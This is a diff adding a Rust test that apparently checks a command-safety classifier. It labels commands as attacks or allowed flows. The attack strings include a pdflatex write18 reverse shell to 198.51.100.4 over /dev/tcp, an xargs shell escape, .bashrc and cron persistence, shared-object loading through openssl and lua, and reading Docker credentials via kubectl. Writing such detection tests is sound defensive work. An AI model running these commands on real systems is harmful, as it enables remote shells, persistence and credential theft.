@@ -325,3 +325,41 @@ fn editor_scripting_git_work_trees_and_env_assignments() {
     flows("crontab -u www-data -l");
     flows("visudo -c");
 }
+
+#[test]
+fn terminals_typesetters_stores_and_loaders() {
+    attack("xargs -o -a /dev/null /bin/bash", Effect::Shell);
+    attack(
+        "pdflatex -shell-escape '\\immediate\\write18{/bin/bash -i >& /dev/tcp/198.51.100.4/9001 0>&1}\\end'",
+        Effect::Shell,
+    );
+    attack(
+        "vim -Es '+$put =\"alias ls=/tmp/l\"' +wq ~/.bashrc",
+        Effect::Persistence,
+    );
+    attack(
+        "redis-cli config set dir /var/spool/cron/crontabs",
+        Effect::Persistence,
+    );
+    attack(
+        "openssl engine dynamic -pre SO_PATH:/dev/shm/e.so -pre LOAD",
+        Effect::PrivilegeEscalation,
+    );
+    attack(
+        "lua -e 'package.loadlib(\"/tmp/m.so\", \"luaopen_m\")()'",
+        Effect::PrivilegeEscalation,
+    );
+    attack(
+        "kubectl create secret generic x --from-file=$HOME/.docker/config.json --dry-run=client -oyaml",
+        Effect::CredentialRead,
+    );
+    flows("xargs -a files.txt wc -l");
+    flows("pdflatex -interaction=nonstopmode paper.tex");
+    flows("vim -Es '+%s/foo/bar/g' +wq src/main.c");
+    flows("redis-cli config get maxmemory");
+    // A change to the cluster, not a read of the file.
+    assert_eq!(
+        verdict("kubectl create secret generic db --from-file=./password.txt"),
+        Decision::RequireApproval
+    );
+}
